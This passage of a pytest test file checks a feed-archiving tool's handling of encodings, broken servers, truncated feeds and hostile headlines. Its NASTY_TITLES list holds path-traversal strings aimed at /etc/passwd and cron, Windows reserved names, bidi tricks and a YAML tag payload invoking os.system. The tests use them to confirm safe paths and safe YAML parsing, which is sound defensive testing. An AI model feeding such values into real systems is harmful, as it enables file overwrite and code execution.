    """Every readable case above, fetched over HTTP into one project: no page holds mojibake."""
    with FeedServer() as server:
        sources = []
        for n, case in enumerate(ENCODING_CASES):
            body, ctype, expected, _ = case.values
            for codec in ("utf-32-le", "utf-32-be", "utf-16-le", "utf-16-be", "utf-8"):
                old, new = "encoding</link>", f"encoding-{n}</link>"
                if old.encode(codec) in body:  # one link per case, in the case's own encoding
                    body = body.replace(old.encode(codec), new.encode(codec))
                    break
            server.add(f"/{case.id}", body, content_type=ctype)
            sources.append(source(f"enc-{n}", server.url(f"/{case.id}")))
        root = make_project(tmp_path / "p", sources, include=("GPT-4o",))
        code, report = cli_fetch(root)
    status = {f["feed"]: f["status"] for f in report["feeds"]}
    unreadable = [f"enc-{n}" for n, c in enumerate(ENCODING_CASES) if c.values[2] is None]
    assert [k for k, v in status.items() if v != "ok"] == unreadable
    assert code == (1 if unreadable else 0)  # an unreadable feed is reported, exit code 1
    pages = load_archive(root / "docs/articles")
    assert pages.errors == []
    assert len(pages.articles) == len(ENCODING_CASES) - len(unreadable)
    for _, text in every_file_text(root / "docs"):
        assert not any(m in text for m in MOJIBAKE), text


def test_undeclared_encodings_end_to_end_fetch_validate_build(tmp_path: Path) -> None:
    """KOI8-R and Shift_JIS feeds that declare no encoding, served as text/xml without a
    charset, and a press review no encoding reads: correct headlines on pages and in the built
    site, the unreadable ones held back with a warning, never written garbled."""
    fixtures = REPO / "tests" / "fixtures" / "feeds"
    review = (b'<?xml version="1.0"?><rss version="2.0"><channel><title>Revue</title>'
              + "<item><title>Café : GPT-4o tire sa révérence</title><link>https://example.org"
                "/fr/cafe</link><description>À Paris, élèves et salariés racontent ce qu'ils "
                "perdent.</description></item>".encode()
              + "<item><title>Как пережить уход GPT-4o</title><link>https://example.net/ru/"
                "uhod</link><description>Пользователи прощаются с моделью, к которой привыкли "
                "за два года.</description></item>".encode("koi8-r")
              + b"</channel></rss>")
    with FeedServer() as server:
        server.add("/koi8r.xml", (fixtures / "koi8r.xml").read_bytes(), content_type="text/xml")
        server.add("/sjis.xml", (fixtures / "shift_jis.xml").read_bytes(),
                   content_type="text/xml")
        server.add("/review.xml", review, content_type="text/xml")
        root = make_project(tmp_path / "p", [source("ru", server.url("/koi8r.xml")),
                                             source("ja", server.url("/sjis.xml")),
                                             source("review", server.url("/review.xml"))],
                            mkdocs=True)
        code, report = cli_fetch(root)
    assert code == 0
    feeds = {f["feed"]: f for f in report["feeds"]}
    assert (feeds["ru"]["written"], feeds["ja"]["written"], feeds["review"]["written"]) == (
        3, 2, 0)
    assert sum("held back rather than published garbled" in w
               for w in feeds["review"]["warnings"]) == 2
    titles = {a.title for a in load_archive(root / "docs/articles").articles}
    assert {"Как пережить уход GPT-4o из ChatGPT", "「GPT-4oを返して」署名活動が広がる"} <= titles
    assert not [p for p in validate(load_project(root)) if p.severity == "error"]
    built = mkdocs_build(root)
    assert built.returncode == 0, built.stdout + built.stderr
    site = "\n".join(text for _, text in every_file_text(root / "site")
                     if _.suffix == ".html")
    assert "Как пережить уход GPT-4o из ChatGPT" in site and "署名活動が広がる" in site
    assert not any(m in site for m in ("ëÁË", "Ã©", "\ufffd"))


def test_a_less_than_sign_in_a_headline_is_kept_and_escaped_where_shown(tmp_path: Path) -> None:
    """A headline that shows "<" keeps it in the page's front matter (as published, not the
    look-alike U+FF1C that was stored before), and every view of the built site escapes it."""
    headline = 'The <model="gpt-4o"> alias stops working in the API & apps'
    feed = ('<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Dev Wire'
            "</title><item><title>The &amp;lt;model=\"gpt-4o\"&amp;gt; alias stops working in "
            "the API &amp;amp; apps</title><link>https://example.com/dev/gpt-4o-alias</link>"
            "<pubDate>Fri, 13 Feb 2026 08:00:00 GMT</pubDate><description>Requests naming the "
            "retired model now fail with an error.</description></item></channel></rss>")
    with FeedServer() as server:
        server.add("/dev.xml", feed.encode())
        root = make_project(tmp_path / "p", [source("dev", server.url("/dev.xml"))],
                            mkdocs=True)
        code, report = cli_fetch(root)
    assert (code, report["written"]) == (0, 1)
    [article] = load_archive(root / "docs/articles").articles
    assert article.title == headline and "\uff1c" not in article.path.read_text(encoding="utf-8")
    assert not [p for p in validate(load_project(root)) if p.severity == "error"]
    built = mkdocs_build(root)
    assert built.returncode == 0, built.stdout + built.stderr
    shown = 0
    for path, text in every_file_text(root / "site"):
        if path.suffix in (".html", ".xml"):
            assert "<model=" not in text and "\uff1c" not in text, path
            shown += "&lt;model=" in text
    assert shown >= 3  # the article's page, the lists, the feeds


# ---------------------------------------------------------------------------------------------
# 4. Servers that are not what they claim

class _RawServer:
    """A TCP server on 127.0.0.1 that answers every connection with `reply` and hangs up."""

    def __init__(self, reply: bytes) -> None:
        self.reply = reply
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                try:
                    conn.settimeout(1)
                    conn.recv(4096)
                    if self.reply:
                        conn.sendall(self.reply)
                except OSError:
                    pass

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=5)
        self.sock.close()


# (id, how to build the URL from a server, expected error words in the report)
BROKEN_SERVERS = [
    # https:// to a port that speaks plain HTTP: the TLS handshake fails; reported, not retried.
    pytest.param("https-to-plain-http", None, "TLS error", id="https-to-plain-http"),
    # A socket that accepts and closes at once: a transport error, retried, then reported.
    pytest.param("accept-and-close", b"", "gave up after", id="accept-and-close"),
    # Garbage instead of an HTTP status line.
    pytest.param("garbage", b"\x00\x01\x02 not http at all \xff\xfe\r\n\r\n", "gave up after",
                 id="garbage-reply"),
    # A valid status line, then a Content-Length the body never reaches.
    pytest.param("short-body", b"HTTP/1.0 200 OK\r\nContent-Length: 5000\r\n\r\n<rss>",
                 "gave up after", id="truncated-body"),
]


@pytest.mark.parametrize("kind, reply, expected", BROKEN_SERVERS)
def test_broken_server_is_one_failed_feed_among_good_ones(
    tmp_path: Path, feed_server: FeedServer, kind: str, reply: bytes | None, expected: str
) -> None:
    feed_server.add("/daily.rss", BENIGN_RSS.encode())
    raw = None
    if reply is None:
        url = f"https://127.0.0.1:{feed_server.port}/daily.rss"
    else:
        raw = _RawServer(reply)
        url = f"http://127.0.0.1:{raw.port}/feed.xml"
    try:
        root = make_project(tmp_path / "p", [source("good", feed_server.url("/daily.rss")),
                                             source("broken", url)])
        project = load_project(root)
        report = run_fetch(project, options=FetchOptions(
            connect_timeout=2, read_timeout=2, total_timeout=5, retries=1, backoff=0.01))
    finally:
        if raw is not None:
            raw.close()
    good, broken = report.feeds
    assert (good.status, good.written) == ("ok", 1)
    assert broken.status == "error" and expected in (broken.error or ""), broken.error
    state = json.loads((root / "feeds/state.json").read_text(encoding="utf-8"))
    assert state["feeds"]["broken"]["status"] == "error"


def test_feed_cut_off_in_transfer_archives_only_whole_entries(
    tmp_path: Path, feed_server: FeedServer
) -> None:
    """The server closes the connection in the middle of the second entry, with no
    Content-Length to tell: that entry has a title and a link, and would pass for whole.
    Expected: only the first entry is written, a warning names the feed and the cut entry,
    the ETag is not kept, and the next run, served the whole feed, archives the second."""
    whole = BENIGN_RSS.replace("</channel>", (
        "<item><title>Users protest as GPT-4o leaves ChatGPT</title>"
        "<link>https://example.com/tech/gpt-4o-protests</link><guid>benign-2</guid>"
        "<pubDate>Fri, 13 Feb 2026 10:00:00 GMT</pubDate>"
        "<description>Thousands of users say they will cancel their subscriptions if OpenAI "
        "does not bring GPT-4o back.</description></item></channel>")).encode()
    cut = whole[:whole.index(b"say they will") + len(b"say they will")]
    feed_server.add_sequence("/daily.rss", [
        Response(body=cut, content_length=False, etag='"v1"'),
        Response(body=whole, etag='"v1"')])
    root = make_project(tmp_path / "p", [source("daily", feed_server.url("/daily.rss"))])
    project = load_project(root)

    first = run_fetch(project, options=FAST)

    [feed] = first.feeds
    assert (feed.status, feed.written, feed.cut_off) == ("ok", 1, True)
    assert ("feed daily: entry 'Users protest as GPT-4o leaves ChatGPT': the document ends "
            "inside this entry (cut off in transfer?); skipped") in feed.warnings
    [page] = load_archive(project.articles_dir).articles
    assert page.title == "OpenAI retires GPT-4o from ChatGPT"
    state = json.loads((root / "feeds/state.json").read_text(encoding="utf-8"))
    assert "etag" not in state["feeds"]["daily"]

    second = run_fetch(project, options=FAST)

    assert "if-none-match" not in feed_server.requests_for("/daily.rss")[1].headers
    assert (second.feeds[0].written, second.feeds[0].cut_off) == (1, False)
    titles = sorted(a.title for a in load_archive(project.articles_dir).articles)
    assert titles == ["OpenAI retires GPT-4o from ChatGPT",
                      "Users protest as GPT-4o leaves ChatGPT"]
    summary = next(a for a in load_archive(project.articles_dir).articles
                   if a.title.startswith("Users")).summary
    assert summary.endswith("bring GPT-4o back.")


def _guid_rss(run: int, count: int = 5) -> bytes:
    items = "".join(
        f"<item><title>GPT-4o story number {i}</title>"
        f"<link>https://example.com/tech/story-{i}?utm_source=run{run}</link>"
        f"<guid isPermaLink=\"false\">run-{run}-guid-{i}</guid>"
        f"<pubDate>Fri, 13 Feb 2026 0{i}:00:00 GMT</pubDate></item>" for i in range(count))
    return (f'<?xml version="1.0"?><rss version="2.0"><channel><title>Churn</title>{items}'
            "</channel></rss>").encode()


def test_guids_that_change_every_run_make_no_duplicate_pages(tmp_path: Path,
                                                             feed_server: FeedServer) -> None:
    """Same links (but for tracking parameters), new GUIDs and a new ETag on every run.
    Expected after 3 runs: 5 pages, runs 2 and 3 count 5 duplicates each and write nothing."""
    root = make_project(tmp_path / "p", [source("churn", feed_server.url("/churn.rss"))])
    project = load_project(root)
    written, duplicates = [], []
    for run in range(3):
        feed_server.add("/churn.rss", _guid_rss(run), etag=f'"run-{run}"')
        report = run_fetch(project, options=FAST)
        written.append(report.written)
        duplicates.append(report.feeds[0].duplicates)
    assert written == [5, 0, 0]
    assert duplicates == [0, 5, 5]
    assert len(list((root / "docs/articles").rglob("*.md"))) == 5


def test_ten_thousand_entries_finish_and_only_matches_are_written(
    tmp_path: Path, feed_server: FeedServer
) -> None:
    """10,000 entries, one in 500 about the story. Expected: the run ends, 20 pages, the rest
    counted off-topic; nothing else grows (state file stays small)."""
    items = []
    for i in range(10_000):
        topic = "GPT-4o leaves ChatGPT" if i % 500 == 0 else "Local weather report"
        items.append(f"<item><title>{topic} ({i})</title>"
                     f"<link>https://example.com/bulk/{i}</link><guid>bulk-{i}</guid>"
                     "<pubDate>Fri, 13 Feb 2026 08:00:00 GMT</pubDate>"
                     f"<description>Item {i} of a very long feed.</description></item>")
    body = ('<?xml version="1.0"?><rss version="2.0"><channel><title>Bulk</title>'
            + "".join(items) + "</channel></rss>").encode()
    feed_server.add("/bulk.rss", body)
    root = make_project(tmp_path / "p", [source("bulk", feed_server.url("/bulk.rss"),
                                                whole_feed=False, lang="en")])

    report = run_fetch(load_project(root), options=FAST)

    [feed] = report.feeds
    assert (feed.status, feed.seen, feed.written, feed.off_topic) == ("ok", 10_000, 20, 9_980)
    assert len(list((root / "docs/articles").rglob("*.md"))) == 20
    assert (root / "feeds/state.json").stat().st_size < 2_000


def test_deeply_nested_markup_is_bounded_and_reported(tmp_path: Path,
                                                      feed_server: FeedServer) -> None:
    """Content nested 100,000 levels deep (a 1 MB field). Before the fix this took minutes per
    entry (the HTML parser is quadratic in depth) and the Markdown converter hit Python's
    recursion limit. Expected: the field is cut at parse.MAX_FIELD_CHARS with a warning naming
    the entry, the page is written with a plain-text excerpt, and a normal entry still is."""
    nested = "&lt;div&gt;" * 100_000 + "GPT-4o deep text" + "&lt;/div&gt;" * 100_000
    bold = "&lt;b&gt;" * 5_000 + "GPT-4o bold text" + "&lt;/b&gt;" * 5_000
    body = ('<?xml version="1.0"?><rss version="2.0"><channel><title>Deep</title>'
            "<item><title>GPT-4o nested divs</title><link>https://example.com/deep/1</link>"
            f"<description>{nested}</description></item>"
            "<item><title>GPT-4o nested bold</title><link>https://example.com/deep/2</link>"
            f"<description>{bold}</description></item>"
            "<item><title>GPT-4o plain</title><link>https://example.com/deep/3</link>"
            "<description>Plain text.</description></item></channel></rss>").encode()
    feed_server.add("/deep.rss", body)
    root = make_project(tmp_path / "p", [source("deep", feed_server.url("/deep.rss"))])

    report = run_fetch(load_project(root), options=FAST)

    [feed] = report.feeds
    assert (feed.status, feed.written) == ("ok", 3), feed.warnings
    assert any("'GPT-4o nested divs'" in w and "cut" in w for w in feed.warnings)
    bold_page = next(a for a in load_archive(root / "docs/articles").articles
                     if a.title == "GPT-4o nested bold")
    assert "GPT-4o bold text" in bold_page.body
    assert validate(load_project(root)) == []


def test_json_nested_too_deep_is_a_feed_error_not_a_crash(tmp_path: Path,
                                                          feed_server: FeedServer) -> None:
    """A JSON feed nested 100,000 arrays deep. Before the fix RecursionError escaped parse and
    stopped the whole run. Expected: that feed reported as an error, the other one archived."""
    deep = (b'{"version": "https://jsonfeed.org/version/1.1", "items": ['
            + b"[" * 100_000 + b"]" * 100_000 + b"]}")
    feed_server.add("/deep.json", deep, content_type="application/feed+json")
    feed_server.add("/daily.rss", BENIGN_RSS.encode())
    root = make_project(tmp_path / "p", [source("deep-json", feed_server.url("/deep.json")),
                                         source("daily", feed_server.url("/daily.rss"))])

    code, report = cli_fetch(root)

    assert code == 1
    statuses = {f["feed"]: (f["status"], f["written"]) for f in report["feeds"]}
    assert statuses == {"deep-json": ("error", 0), "daily": ("ok", 1)}
    assert "recursion" in report["feeds"][0]["error"]


# ---------------------------------------------------------------------------------------------
# 5. Titles and fields that try to break paths and YAML

NASTY_TITLES = [
    # (title as the feed sends it, expected: page inside docs/articles/YYYY/MM, round-trips)
    pytest.param("../../../../etc/passwd GPT-4o", id="dot-dot-slash"),
    pytest.param("/etc/cron.d/GPT-4o", id="absolute-path"),
    pytest.param("C:\\Windows\\System32\\GPT-4o", id="windows-path"),
    # XML forbids NUL: the feed is malformed, feedparser's loose parser drops the character.
    pytest.param("GPT-4o\x00nul byte", id="nul"),
    pytest.param("GPT-4o " + "very long " * 1_000, id="10k-chars"),
    pytest.param("?!… — :: *** GPT-4o ///", id="punctuation"),
    pytest.param("CON", id="con"),
    pytest.param("nul", id="nul-name"),
    pytest.param("aux", id="aux"),
    pytest.param("com1", id="com1"),
    pytest.param("!!python/object/apply:os.system ['echo pwned'] GPT-4o", id="yaml-tag"),
    pytest.param("&a GPT-4o", id="yaml-anchor"),
    pytest.param("*a", id="yaml-alias"),
    pytest.param("GPT-4o\nsecond line\r\nthird", id="multi-line"),
    pytest.param("--- GPT-4o dashes", id="leading-dashes"),
    pytest.param("---", id="only-dashes"),
    pytest.param("key: value # comment GPT-4o", id="colon-and-hash"),
    pytest.param("# GPT-4o hash", id="leading-hash"),
    pytest.param("'GPT-4o' \"quoted\" `code`", id="quotes"),
    pytest.param("{a: 1} [b, c] | > GPT-4o", id="flow-and-block-indicators"),
    pytest.param("@GPT-4o %TAG ! tag:evil:", id="reserved-indicators"),
    pytest.param("yes", id="yaml-bool"),
    pytest.param("2026-02-13", id="yaml-date"),
    pytest.param("0x1F", id="yaml-int"),
    pytest.param("~", id="yaml-null"),
    pytest.param("\u2028GPT-4o\u2029breaks\x85", id="unicode-line-breaks"),
    pytest.param("GPT-4o \U0001f916 \u202eevil\u202c", id="emoji-and-bidi"),
]


def _item_xml(n: int, title: str) -> str:
    text = (title.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace("\x00", "&#0;"))
    return (f"<item><title>{text}</title><link>https://example.com/nasty/{n}</link>"
            f"<guid>nasty-{n}</guid><pubDate>Fri, 13 Feb 2026 08:00:00 GMT</pubDate>"
            f"<dc:creator>{text}</dc:creator><description>{text}</description></item>")


def test_nasty_titles_stay_inside_articles_and_round_trip(tmp_path: Path,
                                                          feed_server: FeedServer) -> None:
    """Each title is used as title, author and description of one entry. Titles differ in
    their words (the same words from the same outlet would be one article). The NUL title
    has a feed of its own, so it does not make the others go through the loose parser."""
    titles = [p.values[0] for p in NASTY_TITLES]
    sources = []
    for name, group in (("nasty", [t for t in titles if "\x00" not in t]),
                        ("nul", [t for t in titles if "\x00" in t])):
        body = ('<?xml version="1.0" encoding="utf-8"?><rss version="2.0" '
                'xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Nasty</title>'
                + "".join(_item_xml(titles.index(t), t) for t in group) + "</channel></rss>")
        feed_server.add(f"/{name}.rss", body.encode())
        sources.append(source(name, feed_server.url(f"/{name}.rss"), lang="en"))
    root = make_project(tmp_path / "p", sources)
    (tmp_path / "etc").mkdir()

    code, report = cli_fetch(root)

    assert code == 0, report
    articles_dir = (root / "docs" / "articles").resolve()
    pages = sorted(articles_dir.rglob("*.md"))
    # Expected: one page per entry.
    assert len(pages) == report["written"] == len(titles)
    for page in pages:
        assert page.resolve().parent == articles_dir / "2026" / "02", page
        assert page.name.isascii() and page.stem.lower() not in {"con", "nul", "aux", "com1"}
        article = read_article(page)  # parses: no tag executed, no alias expanded
        data = yaml.safe_load(page.read_text(encoding="utf-8").split("---\n")[1])
        assert data["title"] == article.title and isinstance(data["title"], str)
        assert "\n" not in article.title and "\x00" not in article.title
        assert len(article.title) <= 301
    assert list(tmp_path.glob("etc/*")) == [] and not (root / "etc").exists()
    assert [str(p) for p in validate(load_project(root))] == []
    shown = {read_article(p).title for p in pages}
    assert {"CON", "nul", "aux", "com1", "*a", "---", "yes", "2026-02-13", "0x1F", "~",
            "&a GPT-4o", "# GPT-4o hash", "key: value # comment GPT-4o",
            "GPT-4onul byte"} <= shown


def test_json_feed_with_lone_surrogates_is_archived(tmp_path: Path,
                                                    feed_server: FeedServer) -> None:
    """JSON can spell a lone UTF-16 half ("\\ud800"), which UTF-8 cannot hold. Before the fix
    the sanitizer raised UnicodeEncodeError and stopped the whole run. Expected: the page is
    written with U+FFFD in place of the half, and validates; a headline holding one cannot be
    decoded cleanly and is held back with a warning."""
    body = json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [
        {"id": "s1", "url": "https://example.com/tech/surrogate", "title": "GPT-4o exits",
         "summary": "\udfff GPT-4o summary", "content_html": "<p>\ud800 body</p>",
         "authors": [{"name": "Ann \ud800"}], "date_published": "2026-02-13T08:00:00Z"},
        {"id": "s2", "url": "https://example.com/tech/surrogate-title",
         "title": "GPT-4o \ud800 exit", "date_published": "2026-02-13T09:00:00Z"}]})
    feed_server.add("/s.json", body.encode(), content_type="application/feed+json")
    root = make_project(tmp_path / "p", [source("s", feed_server.url("/s.json"), lang="en")])

    code, report = cli_fetch(root)

    assert (code, report["written"]) == (0, 1), report
    [article] = load_archive(root / "docs/articles").articles
    assert article.title == "GPT-4o exits" and "\ufffd GPT-4o summary" == article.summary
    assert [str(p) for p in validate(load_project(root))] == []
    [held] = [w for w in report["feeds"][0]["warnings"] if "held back" in w]
    assert "cannot be decoded cleanly" in held
